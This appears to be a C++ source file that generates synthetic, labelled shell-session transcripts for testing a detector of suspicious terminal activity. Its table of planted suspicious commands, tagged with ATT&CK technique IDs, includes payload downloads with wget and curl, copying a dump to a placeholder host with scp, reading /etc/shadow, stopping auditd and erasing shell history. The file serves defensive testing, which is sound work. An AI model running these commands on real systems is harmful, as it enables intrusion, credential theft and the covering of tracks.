#include "shellscope/generator.hpp"

#include <algorithm>
#include <cstdio>
#include <fstream>
#include <set>

#include <nlohmann/json.hpp>

#include "shellscope/errors.hpp"
#include "shellscope/rng.hpp"
#include "shellscope/textutil.hpp"

namespace shellscope::synth {

using nlohmann::json;

void GeneratorConfig::validate() const {
  if (num_activities < 0) throw DataError("num_activities must be nonnegative");
  if (min_commands < 1 || max_commands < min_commands) throw DataError("bad command count range");
  for (double r : {suspicious_injection_rate, abstained_injection_rate, outlier_injection_rate, wrap_probability,
                   editor_probability, subshell_probability, time_prefix_probability, prompt_change_probability,
                   cycle_probability, no_prompt_probability, adversarial_buffer_probability}) {
    if (r < 0.0 || r > 1.0) throw DataError("generator rates must lie in [0, 1]");
  }
  if (suspicious_injection_rate + abstained_injection_rate > 1.0) {
    throw DataError("suspicious + abstained injection rates exceed 1");
  }
}

const GroundTruthEntry* GroundTruth::find(const std::string& activity_id) const {
  const auto it = by_id.find(activity_id);
  return it == by_id.end() ? nullptr : &entries[it->second];
}

void GroundTruth::rebuild_index() {
  by_id.clear();
  for (std::size_t i = 0; i < entries.size(); ++i) by_id[entries[i].activity_id] = i;
}

namespace {

// ---- vocabulary pools ------------------------------------------------
// Benign material must stay keyword-free: no Table-style keyword as a whole
// token, no substring-mode keyword anywhere. A unit test cross-checks every
// template against the shipped keyword table.

const std::vector<std::string> kUsers = {"alice", "bob", "carol", "deploy", "ops", "svc"};
const std::vector<std::string> kHosts = {"web01", "db02", "app03", "build7", "node12"};
const std::vector<std::string> kDirs = {"~", "/var/log", "/opt/app", "~/src", "/tmp"};
const std::vector<std::string> kFiles = {"report.txt",  "notes.md", "build.log",       "main.c",
                                         "config.yaml", "data.csv", "archive.tar.gz",  "index.html",
                                         "util.c",      "Makefile", "requests.log",    "summary.txt"};
const std::vector<std::string> kWords = {"total", "section", "alpha", "beta", "release", "draft", "error", "warn"};
const std::vector<std::string> kSubdirs = {"src", "docs", "build", "scripts", "assets"};

// {F}=file {D}=dir {W}=word {N}=number
const std::vector<std::string> kBenignTemplates = {
    "ls -l",
    "ls {D}",
    "cd {D2}",
    "pwd",
    "cat {F}",
    "echo {W}",
    "grep {W} {F}",
    "grep -r {W} {D}",
    "head -n {N} {F}",
    "tail -n {N} {F}",
    "wc -l {F}",
    "sort {F}",
    "uniq -c {F}",
    "mkdir {D2}",
    "cp {F} {F2}",
    "mv {F} {F2}",
    "touch {F}",
    "tar -czf backup{N}.tar.gz {D2}",
    "tar -xzf archive.tar.gz",
    "gzip {F}",
    "find . -name {F}",
    "make",
    "make clean",
    "git log --oneline",
    "git diff {F}",
    "gcc -o app {F}",
    "date",
    "du -sh {D2}",
    "diff {F} {F2}",
    "sed -n {N}p {F}",
    "cut -d: -f{N} {F}",
    "echo {W} > {F2}",
    "cat {F} | grep {W}",
};

// rare constructions for embedding-space outliers; still keyword-free
const std::vector<std::string> kOutlierTemplates = {
    "awk '{{sum+={N}}} END {{print sum/NR}}' {F} | tee {F2}",
    "tr -dc abcdef{N} < {F} | fold -w {N} | paste -sd+ -",
    "xxd -p {F} | fold -w {N} | sed 's/../&:/g'",
    "od -An -tx1 {F} | tr -s ' ' '\\t' | cut -f{N}-",
    "seq {N} | xargs -I@@ sh -c 'printf @@; printf {W}'",
    "rev {F} | tr a-z n-za-m | base64 | fold -w {N}",
};

// editor launches; the parser must excise the buffer that follows
const std::vector<std::string> kEditorTemplates = {"vi {F}", "vim {F}", "nano {F}", "emacs {F}"};

const std::vector<std::string> kBufferWords = {"draft",   "outline", "chapter", "todo",  "figure",
                                               "caption", "appendix", "stanza", "verse", "margin"};

// safe output material: never contains $, # or >
const std::vector<std::string> kOutputTemplates = {
    "total {N}",
    "-rw-r--r-- 1 {U} staff {N} Jan {N2} 10:{N2} {F}",
    "drwxr-xr-x 2 {U} staff {N} Feb {N2} 09:{N2} {D2}",
    "{W} {W2} {N}",
    "Binary file {F} matches",
    "[{N}%] Built target app",
    "{F}:{N}: {W} {W2}",
    "done.",
    "{N} lines processed",
};

const std::vector<std::string> kErrorOutputs = {
    "cat: {F}: No such file or directory",
    "bash: {W}: command not found",
    "rm: cannot remove '{F}': Permission denied",
};

// mildly in Table-1 space: every template records exactly the unique
// keywords and techniques it plants
struct SuspiciousTemplate {
  const char* text;
  std::vector<std::string> keywords;
  std::vector<std::string> techniques;
};

const std::vector<SuspiciousTemplate> kSuspiciousTemplates = {
    {"whoami", {"whoami"}, {"T1033"}},
    {"uname -a", {"uname"}, {"T1082"}},
    {"df -h", {"df"}, {"T1082"}},
    {"env", {"env"}, {"T1082"}},
    {"arp -a", {"arp"}, {"T1018", "T1016"}},
    {"ping -c 3 10.0.0.{N}", {"ping"}, {"T1018", "T1016"}},
    {"netstat -tulpn", {"netstat"}, {"T1049", "T1016"}},
    {"lsof -i :{N}", {"lsof"}, {"T1049"}},
    {"tcpdump -i eth0 port {N}", {"tcpdump"}, {"T1040"}},
    {"lastlog", {"lastlog"}, {"T1087"}},
    {"crontab -l", {"crontab"}, {"T1053.003"}},
    {"kill -9 {N}", {"kill"}, {"T1489"}},
    {"pkill -f sensor", {"pkill"}, {"T1489"}},
    {"systemctl stop auditd", {"systemctl"}, {"T1562.001"}},
    {"wget http://{N}.{N}.{N}.{N}/payload{N}.sh", {"wget"}, {"T1105"}},
    {"curl -O http://{N}.{N}.{N}.{N}/kit{N}.tar", {"curl"}, {"T1105"}},
    {"scp dump{N}.tgz mule@{N}.{N}.{N}.{N}:/tmp", {"scp"}, {"T1105"}},
    {"chmod +x payload{N}.sh", {"chmod"}, {"T1222.002"}},
    {"chown root payload{N}.sh", {"chown"}, {"T1222.002"}},
    {"cat /etc/passwd", {"passwd"}, {"T1003.008"}},
    {"sudo cat /etc/shadow", {"sudo", "shadow"}, {"T1548.003", "T1003.008"}},
    {"sudo su -", {"sudo"}, {"T1548.003"}},
    {"useradd ghost{N}", {"useradd"}, {"T1136"}},
    {"modprobe dummy{N}", {"modprobe"}, {"T1547.006"}},
    {"unset HISTFILE", {"HISTFILE"}, {"T1070.003"}},
    {"echo cleared; cp /dev/null .bash_history", {".bash_history"}, {"T1070.003"}},
};

const std::vector<std::string> kSqlStatements = {
    "SELECT COUNT(*) FROM orders;",
    "SHOW TABLES;",
    "USE appdb;",
    "SELECT name FROM items LIMIT 10;",
    "DESCRIBE events;",
};

const std::vector<std::string> kPythonLines = {
    ">>> print('ready')",
    ">>> x = [k * 2 for k in range(8)]",
    ">>> len(x)",
    "16",
    ">>> quit()",
};

struct PromptStyle {
  const char* pattern;  // {U} user, {H} host, {D} dir
  bool has_dir;
};

const std::vector<PromptStyle> kPromptStyles = {
    {"[{U}@{H} {D}]$", true}, {"{U}@{H}:{D}$", true}, {"{H}:{D}#", true},
    {"bash-5.1$", false},     {"{U}@{H} {D} >", true},
};

class ActivityBuilder {
 public:
  ActivityBuilder(const GeneratorConfig& cfg, Rng& rng) : cfg_(cfg), rng_(rng) {}

  std::string pick_word() { return rng_.pick(kWords); }

  std::string fill(std::string t) {
    replace_all(t, "{F2}", rng_.pick(kFiles));
    replace_all(t, "{F}", rng_.pick(kFiles));
    replace_all(t, "{D2}", rng_.pick(kSubdirs));
    replace_all(t, "{D}", rng_.pick(kDirs));
    replace_all(t, "{W2}", rng_.pick(kWords));
    replace_all(t, "{W}", rng_.pick(kWords));
    replace_all(t, "{U}", rng_.pick(kUsers));
    replace_all(t, "{N2}", std::to_string(rng_.uniform_int(10, 28)));
    replace_all(t, "{N}", std::to_string(rng_.uniform_int(2, 997)));
    replace_all(t, "{{", "{");
    replace_all(t, "}}", "}");
    return t;
  }

  static void replace_all(std::string& s, std::string_view from, std::string_view to) {
    std::size_t pos = 0;
    while ((pos = s.find(from, pos)) != std::string::npos) {
      s.replace(pos, from.size(), to);
      pos += to.size();
    }
  }

  std::string render_prompt(const PromptStyle& style, const std::string& user, const std::string& host,
                            const std::string& dir) {
    std::string p = style.pattern;
    replace_all(p, "{U}", user);
    replace_all(p, "{H}", host);
    replace_all(p, "{D}", dir);
    return p;
  }

  std::string clock_prefix() {
    char buf[16];
    std::snprintf(buf, sizeof(buf), "%02d:%02d:%02d ", clock_h_, clock_m_, clock_s_);
    clock_s_ += static_cast<int>(rng_.uniform_int(1, 5));
    if (clock_s_ >= 60) {
      clock_s_ -= 60;
      if (++clock_m_ >= 60) {
        clock_m_ = 0;
        clock_h_ = (clock_h_ + 1) % 24;
      }
    }
    return buf;
  }

  void reset_clock() {
    clock_h_ = static_cast<int>(rng_.uniform_int(6, 22));
    clock_m_ = static_cast<int>(rng_.uniform_int(0, 59));
    clock_s_ = static_cast<int>(rng_.uniform_int(0, 59));
  }

 private:
  const GeneratorConfig& cfg_;
  Rng& rng_;
  int clock_h_ = 9, clock_m_ = 0, clock_s_ = 0;
};

}  // namespace

std::pair<std::vector<model::RawActivity>, GroundTruth> generate(const GeneratorConfig& config,
                                                                 const std::vector<tagging::KeywordRule>& rules) {
  config.validate();
  if (rules.empty()) throw DataError("generator needs the keyword table for planting labels");

  Rng rng(config.seed);
  ActivityBuilder builder(config, rng);
  std::vector<model::RawActivity> activities;
  GroundTruth truth;
  activities.reserve(static_cast<std::size_t>(config.num_activities));

  for (int idx = 0; idx < config.num_activities; ++idx) {
    model::RawActivity activity;
    GroundTruthEntry gt;
    char idbuf[24];
    std::snprintf(idbuf, sizeof(idbuf), "act-%06d", idx);
    activity.activity_id = idbuf;
    gt.activity_id = idbuf;
    {
      char ts[40];
      std::snprintf(ts, sizeof(ts), "2024-03-%02dT%02d:%02d:%02dZ", static_cast<int>(rng.uniform_int(1, 28)),
                    static_cast<int>(rng.uniform_int(0, 23)), static_cast<int>(rng.uniform_int(0, 59)),
                    static_cast<int>(rng.uniform_int(0, 59)));
      activity.captured_at = ts;
    }

    // a few activities are pure output and must be dropped by the parser
    if (rng.bernoulli(config.no_prompt_probability)) {
      const int n = static_cast<int>(rng.uniform_int(2, 6));
      for (int i = 0; i < n; ++i) activity.lines.push_back(builder.fill(rng.pick(kOutputTemplates)));
      truth.entries.push_back(std::move(gt));
      activities.push_back(std::move(activity));
      continue;
    }

    const double class_draw = rng.uniform01();
    const bool abnormal = class_draw < config.suspicious_injection_rate;
    const bool abstained = !abnormal && class_draw < config.suspicious_injection_rate + config.abstained_injection_rate;
    gt.planted_label = abnormal   ? model::SessionLabel::Abnormal
                       : abstained ? model::SessionLabel::Abstained
                                   : model::SessionLabel::Normal;
    gt.is_outlier = rng.bernoulli(config.outlier_injection_rate);

    // --- plan the command sequence -----------------------------------
    struct Planned {
      std::string text;
      enum class Kind { Plain, Editor, SubshellSql, SubshellPy } kind = Kind::Plain;
    };
    std::vector<Planned> plan;
    const int n_cmds = static_cast<int>(rng.uniform_int(config.min_commands, config.max_commands));
    plan.push_back({"ls -l", Planned::Kind::Plain});  // anchors prompt detection
    for (int i = 1; i < n_cmds; ++i) plan.push_back({builder.fill(rng.pick(kBenignTemplates)), Planned::Kind::Plain});

    if (gt.is_outlier) {
      const int extra = static_cast<int>(rng.uniform_int(2, 4));
      for (int i = 0; i < extra; ++i) {
        plan.push_back({builder.fill(rng.pick(kOutlierTemplates)), Planned::Kind::Plain});
      }
    }

    if (rng.bernoulli(config.cycle_probability)) {
      const std::string body = builder.fill(rng.pick(kBenignTemplates));
      const int reps = static_cast<int>(rng.uniform_int(3, 6));
      for (int i = 0; i < reps; ++i) plan.push_back({body, Planned::Kind::Plain});
    }

    // suspicious plants: unique keyword count drives the planted label
    if (abnormal || abstained) {
      const std::size_t want_unique = abnormal ? static_cast<std::size_t>(rng.uniform_int(3, 5))
                                               : static_cast<std::size_t>(rng.uniform_int(1, 2));
      std::set<std::string> kw;
      std::set<std::string> tech;
      int guard = 0;
      while (kw.size() < want_unique && ++guard < 200) {
        const auto& t = rng.pick(kSuspiciousTemplates);
        std::set<std::string> after = kw;
        after.insert(t.keywords.begin(), t.keywords.end());
        if (after.size() > want_unique) continue;  // would overshoot the target
        if (after.size() == kw.size()) continue;   // no new keyword
        kw = std::move(after);
        tech.insert(t.techniques.begin(), t.techniques.end());
        const std::size_t pos = 1 + rng.uniform_below(plan.size());
        plan.insert(plan.begin() + static_cast<std::ptrdiff_t>(pos), {builder.fill(t.text), Planned::Kind::Plain});
      }
      if (kw.size() != want_unique) throw NumericError("generator could not hit keyword target");
      gt.planted_keywords.assign(kw.begin(), kw.end());
      gt.planted_technique_ids.assign(tech.begin(), tech.end());
    }

    if (rng.bernoulli(config.editor_probability)) {
      gt.has_editor_buffer = true;
      const std::size_t pos = 1 + rng.uniform_below(plan.size());
      plan.insert(plan.begin() + static_cast<std::ptrdiff_t>(pos),
                  {builder.fill(rng.pick(kEditorTemplates)), Planned::Kind::Editor});
    }

    if (rng.bernoulli(config.subshell_probability)) {
      gt.has_subshell = true;
      const bool sql = rng.bernoulli(0.5);
      plan.push_back({sql ? "mysql -u admin appdb" : "python", sql ? Planned::Kind::SubshellSql : Planned::Kind::SubshellPy});
    }

    // --- render to raw lines ------------------------------------------
    const bool timestamps = rng.bernoulli(config.time_prefix_probability);
    builder.reset_clock();
    const auto& style = kPromptStyles[rng.uniform_below(kPromptStyles.size())];
    const std::string user = rng.pick(kUsers);
    const std::string host = rng.pick(kHosts);
    std::string dir = rng.pick(kDirs);
    std::string prompt = builder.render_prompt(style, user, host, dir);
    gt.prompts.push_back(prompt);
    bool may_change_prompt = style.has_dir && rng.bernoulli(config.prompt_change_probability);

    auto emit = [&](std::string line, bool stamp) {
      if (stamp && timestamps) line = builder.clock_prefix() + line;
      activity.lines.push_back(std::move(line));
    };

    for (std::size_t ci = 0; ci < plan.size(); ++ci) {
      const auto& planned = plan[ci];
      const std::string& cmd = planned.text;

      // wrapped emission: break at a word boundary, continue with backslash
      const auto words = split_words(cmd);
      if (words.size() >= 3 && cmd.find('\\') == std::string::npos && rng.bernoulli(config.wrap_probability)) {
        const std::size_t cut = 1 + rng.uniform_below(words.size() - 1);
        std::vector<std::string> head(words.begin(), words.begin() + static_cast<std::ptrdiff_t>(cut));
        std::vector<std::string> tail(words.begin() + static_cast<std::ptrdiff_t>(cut), words.end());
        emit(prompt + " " + join(head, " ") + " \\", true);
        emit(join(tail, " "), false);
        gt.commands.push_back(join(head, " ") + " " + join(tail, " "));
      } else {
        emit(prompt + " " + cmd, true);
        gt.commands.push_back(cmd);
      }

      switch (planned.kind) {
        case Planned::Kind::Editor: {
          const int buf_lines = static_cast<int>(rng.uniform_int(5, 20));
          const bool adversarial = rng.bernoulli(config.adversarial_buffer_probability);
          const int adv_at = adversarial ? static_cast<int>(rng.uniform_below(static_cast<std::uint64_t>(buf_lines))) : -1;
          for (int b = 0; b < buf_lines; ++b) {
            if (b == adv_at) {
              // a pasted transcript inside the buffer; the parser will
              // mistake it for a real command line
              emit(prompt + " ls -l", false);
            } else {
              emit(rng.pick(kBufferWords) + " " + rng.pick(kBufferWords) + " " +
                       std::to_string(rng.uniform_int(1, 99)),
                   false);
            }
          }
          break;
        }
        case Planned::Kind::SubshellSql: {
          if (std::find(gt.prompts.begin(), gt.prompts.end(), "mysql>") == gt.prompts.end()) {
            gt.prompts.push_back("mysql>");
          }
          gt.subshell_start = gt.commands.size();
          const int stmts = static_cast<int>(rng.uniform_int(2, 4));
          for (int s = 0; s < stmts; ++s) {
            const std::string stmt = kSqlStatements[rng.uniform_below(kSqlStatements.size())];
            emit("mysql> " + stmt, true);
            gt.commands.push_back(stmt);
            if (rng.bernoulli(0.6)) emit(builder.fill("{N} rows in set"), true);
          }
          gt.subshell_len = gt.commands.size() - gt.subshell_start;
          emit("mysql> exit", true);
          gt.commands.push_back("exit");
          break;
        }
        case Planned::Kind::SubshellPy: {
          // ">>>"-prefixed lines never match a prompt rule, so this typed
          // input is lost to the extractor by design and stays out of the
          // ground-truth command list
          for (const auto& l : kPythonLines) emit(l, false);
          break;
        }
        case Planned::Kind::Plain: {
          const int outs = static_cast<int>(rng.uniform_int(0, 3));
          for (int o = 0; o < outs; ++o) emit(builder.fill(rng.pick(kOutputTemplates)), true);
          // occasional failing benign command; suspicious plants never fail
          if (gt.planted_label == model::SessionLabel::Normal && rng.bernoulli(0.04)) {
            emit(builder.fill(rng.pick(kErrorOutputs)), true);
          }
          break;
        }
      }

      // prompt drift after a directory change
      if (may_change_prompt && cmd.rfind("cd ", 0) == 0) {
        dir = split_words(cmd)[1];
        prompt = builder.render_prompt(style, user, host, dir);
        gt.prompts.push_back(prompt);
        may_change_prompt = false;
        emit(prompt + " ls", true);
        gt.commands.push_back("ls");
      }
    }

    truth.entries.push_back(std::move(gt));
    activities.push_back(std::move(activity));
  }

  truth.rebuild_index();
  return {std::move(activities), std::move(truth)};
}

void save_ground_truth(const GroundTruth& truth, const std::string& path) {
  std::ofstream out(path, std::ios::binary);
  if (!out) throw DataError("cannot open ground truth file for writing: " + path);
  for (const auto& e : truth.entries) {
    json rec;
    rec["activity_id"] = e.activity_id;
    rec["prompts"] = e.prompts;
    rec["commands"] = e.commands;
    rec["label"] = model::label_to_string(e.planted_label);
    rec["keywords"] = e.planted_keywords;
    rec["techniques"] = e.planted_technique_ids;
    rec["outlier"] = e.is_outlier;
    rec["editor"] = e.has_editor_buffer;
    rec["subshell"] = e.has_subshell;
    if (e.has_subshell) {
      rec["subshell_start"] = e.subshell_start;
      rec["subshell_len"] = e.subshell_len;
    }
    out << rec.dump() << '\n';
  }
  if (!out) throw DataError("write failed: " + path);
}

GroundTruth load_ground_truth(const std::string& path) {
  std::ifstream in(path);
  if (!in) throw DataError("cannot open ground truth file: " + path);
  GroundTruth truth;
  std::string line;
  std::size_t line_no = 0;
  while (std::getline(in, line)) {
    ++line_no;
    if (trim(line).empty()) continue;
    json rec;
    try {
      rec = json::parse(line);
    } catch (const json::exception& e) {
      throw DataError(std::string("malformed ground truth record: ") + e.what(), line_no);
    }
    GroundTruthEntry e;
    e.activity_id = rec.at("activity_id").get<std::string>();
    e.prompts = rec.value("prompts", std::vector<std::string>{});
    e.commands = rec.value("commands", std::vector<std::string>{});
    e.planted_label = model::label_from_string(rec.value("label", "normal"));
    e.planted_keywords = rec.value("keywords", std::vector<std::string>{});
    e.planted_technique_ids = rec.value("techniques", std::vector<std::string>{});
    e.is_outlier = rec.value("outlier", false);
    e.has_editor_buffer = rec.value("editor", false);
    e.has_subshell = rec.value("subshell", false);
    e.subshell_start = rec.value("subshell_start", 0u);
    e.subshell_len = rec.value("subshell_len", 0u);
    truth.entries.push_back(std::move(e));
  }
  truth.rebuild_index();
  return truth;
}

}  // namespace shellscope::synth
